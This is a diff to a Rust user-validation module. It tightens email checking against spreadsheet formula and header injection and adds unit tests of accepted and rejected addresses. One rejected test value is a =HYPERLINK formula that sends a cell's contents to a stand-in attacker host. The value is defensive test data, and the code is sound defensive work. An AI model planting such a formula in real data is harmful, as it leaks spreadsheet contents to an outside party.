@@ -72,13 +72,30 @@ pub fn check_password(pw: &str) -> Result<(), UserError> {
 
 pub fn check_email(email: &str) -> Result<(), UserError> {
     let e = email.trim();
-    if e.len() > 320
-        || !e.contains('@')
-        || e.starts_with('@')
-        || e.ends_with('@')
-        || has_control(e)
-        || e.chars().any(char::is_whitespace)
-    {
+    // A practical address: an unquoted local part of RFC 5322 `atext` and dots, and a
+    // domain of letters, digits, hyphens and dots (either may hold non-ASCII letters).
+    // No quotes, parentheses, commas or spaces: an address that must be quoted is one
+    // that can smuggle a spreadsheet formula or a header into a report.
+    let atext = |c: char| {
+        c.is_ascii_alphanumeric() || "!#$%&'*+/=?^_`{|}~-.".contains(c) || (!c.is_ascii() && c.is_alphanumeric())
+    };
+    let domain_char = |c: char| c.is_alphanumeric() || c == '-' || c == '.';
+    let ok = match e.rsplit_once('@') {
+        Some((local, domain)) => {
+            e.len() <= 320
+                && !local.is_empty()
+                && local.chars().all(atext)
+                && !local.starts_with('.')
+                && !local.ends_with('.')
+                && !domain.is_empty()
+                && domain.chars().all(domain_char)
+                && !domain.starts_with(['.', '-'])
+                && !domain.ends_with(['.', '-'])
+                && !domain.contains("..")
+        }
+        None => false,
+    };
+    if !ok {
         return Err(UserError::Invalid(format!("{:?} is not an email address", escape(email))));
     }
     Ok(())
@@ -187,4 +204,39 @@ pub fn set_role(
 /// A user as shown to operators and admins: never the hash.
 pub fn public(u: &User) -> serde_json::Value {
     serde_json::json!({"id": u.id, "email": u.email, "name": u.name, "role": u.role, "disabled": u.disabled, "created_at": u.created_at, "updated_at": u.updated_at})
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn emails_are_practical_addresses() {
+        for good in [
+            "a@b.c",
+            "dispatch@aspcranes.example",
+            "-x@example.com",
+            "o'brien+crm@example.com",
+            "jürgen@bücher.de",
+            "a@localhost",
+        ] {
+            assert!(check_email(good).is_ok(), "{good}");
+        }
+        for bad in [
+            "=HYPERLINK(\"http://evil.example/?\"&B1,\"x\")@example.com",
+            "\"quoted local\"@example.com",
+            "a,b@example.com",
+            "a(comment)@example.com",
+            "a b@example.com",
+            "@example.com",
+            "a@",
+            "a@.example.com",
+            "a@example..com",
+            ".a@example.com",
+            "a\u{0}b@x.test",
+            "a@b@c",
+        ] {
+            assert!(check_email(bad).is_err(), "{bad}");
+        }
+    }
 }
